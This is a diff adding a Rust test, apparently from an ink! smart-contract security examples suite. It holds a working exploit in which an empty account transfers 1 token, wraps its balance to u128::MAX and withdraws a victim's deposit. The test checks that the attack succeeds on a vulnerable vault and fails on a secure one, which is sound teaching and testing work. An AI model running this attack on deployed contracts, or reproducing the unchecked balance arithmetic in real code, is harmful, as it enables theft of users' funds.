@@ -0,0 +1,82 @@
+//! A transfer of more than the sender holds wraps its balance to u128::MAX
+
+use std::fmt;
+
+use anyhow::{ensure, Result as AnyResult};
+use ink::primitives::AccountId;
+use ink::scale::{Decode, Encode};
+
+use crate::{
+    account_id, attacker, message, owner, victim, Balance, Chain, Constructor, ExploitSpec,
+};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "balance_overflow",
+    description: "transfer(1) from an empty account mints Balance::MAX, then withdraws deposits",
+    must_succeed: || {
+        Box::pin(
+            attack::<_, _, _, balance_overflow::balance_overflow::Error>(
+                "balance_overflow",
+                balance_overflow::balance_overflow::VaultRef::new,
+            ),
+        )
+    },
+    must_fail: || {
+        Box::pin(attack::<
+            _,
+            _,
+            _,
+            balance_overflow_secure::balance_overflow::Error,
+        >(
+            "balance_overflow_secure",
+            balance_overflow_secure::balance_overflow::VaultRef::new,
+        ))
+    },
+    rejection: "InsufficientBalance",
+};
+
+const HONEST_DEPOSIT: Balance = 10_000_000_000_000;
+
+async fn attack<C, A, R, E>(
+    contract: &'static str,
+    new: fn(AccountId) -> Constructor<C, A, R>,
+) -> AnyResult<()>
+where
+    C: Clone,
+    A: Encode + Clone + Send + Sync,
+    E: Decode + Send + fmt::Debug,
+{
+    let mut chain = Chain::new().await?;
+    let vault = chain
+        .deploy(contract, &owner(), new(account_id(&owner())))
+        .await?;
+    chain
+        .send(&victim(), &message!(vault, "deposit"()), HONEST_DEPOSIT)
+        .await?;
+
+    // Holding nothing, the attacker sends 1 and wraps to u128::MAX
+    let attacker_id = account_id(&attacker());
+    chain
+        .send(
+            &attacker(),
+            &message!(vault, "transfer"(account_id(&victim()), 1 as Balance) -> Result<(), E>),
+            0,
+        )
+        .await?;
+    let minted = chain
+        .query(
+            &attacker(),
+            &message!(vault, "balance_of"(attacker_id) -> Balance),
+        )
+        .await?;
+    ensure!(minted == Balance::MAX, "attacker's balance is {minted}");
+
+    // The victim's deposit now belongs to the attacker (less the call fee)
+    let before = chain.balance(attacker_id).await?;
+    chain
+        .send(&attacker(), &message!(vault, "withdraw"(HONEST_DEPOSIT)), 0)
+        .await?;
+    let gained = chain.balance(attacker_id).await?.saturating_sub(before);
+    ensure!(gained > HONEST_DEPOSIT / 2, "attacker gained only {gained}");
+    Ok(())
+}